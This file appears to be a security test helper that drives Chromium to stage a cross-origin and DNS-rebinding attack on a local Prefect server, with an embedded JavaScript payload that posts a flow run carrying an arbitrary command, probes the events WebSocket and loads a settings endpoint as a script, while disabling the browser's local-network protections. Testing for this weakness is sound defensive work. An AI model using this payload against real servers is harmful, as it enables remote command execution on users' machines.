"""A web page of another origin that tries to make a local Prefect server run a command."""

from typing import Any

from tests.chromium import chromium_program

_NAME = "foreign.example"
_WITHOUT_LOCAL_NETWORK_CHECKS = (
    "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets,"
    "BlockInsecurePrivateNetworkRequests"
)
"""Checks of new versions of Chromium that block such requests; other browsers have none."""
_ATTACK = """async ([url, deployment, command]) => {
  const gains = [];
  const body = JSON.stringify({ job_variables: { command }, state: { type: "SCHEDULED" } });
  const untyped = text => new Blob([text]);
  for (const [path, content] of [
    ["/api/deployments/filter", "{}"],
    ["/api/flow_runs/filter", "{}"],
    [`/api/deployments/${deployment}/create_flow_run`, body],
  ])
    for (const mode of ["cors", "no-cors"])
      for (const content_ of [untyped(content), content])
        try {
          const answer = await fetch(url + path, { method: "POST", mode, body: content_ });
          if (answer.ok) gains.push(`${path}: ${await answer.text()}`);
        } catch {}
  for (const protocols of [[], ["prefect"]])
    await new Promise(done => {
      const socket = new WebSocket(url.replace("http", "ws") + "/api/events/out", protocols);
      socket.onopen = () => {
        gains.push("an open socket");
        socket.send(JSON.stringify({ type: "auth", token: null }));
        socket.send(JSON.stringify({ type: "filter", filter: {} }));
      };
      socket.onmessage = event => gains.push(`an event: ${event.data}`);
      socket.onclose = done;
      setTimeout(done, 3000);
    });
  await new Promise(done => {
    const script = document.createElement("script");
    script.onerror = done;
    script.onload = () => {
      gains.push("a loaded script");
      done();
    };
    script.src = `${url}/ui-settings`;
    document.body.append(script);
  });
  return gains;
}"""


def attack(browser: Any, url: str, deployment: str, command: str) -> list[str]:
    """Return what the page gains, from another origin and from a name that resolves to
    the server.
    """
    port = url.rpartition(":")[2]
    rebound = browser.browser_type.launch(
        executable_path=chromium_program(),
        args=[
            "--no-sandbox",
            f"--host-resolver-rules=MAP {_NAME} 127.0.0.1",
            f"--disable-features={_WITHOUT_LOCAL_NETWORK_CHECKS}",
        ],
    )
    gains = []
    try:
        for origin, target in (
            (f"http://{_NAME}:8123", url),
            ("http://127.0.0.1:8123", url),
            (f"http://{_NAME}:{port}", f"http://{_NAME}:{port}"),
        ):
            page = rebound.new_page()
            page.route(
                f"{origin}/page",
                lambda route: route.fulfill(content_type="text/html", body="<body></body>"),
            )
            page.goto(f"{origin}/page")
            gains += page.evaluate(_ATTACK, [target, deployment, command])
            page.close()
    finally:
        rebound.close()
    return gains
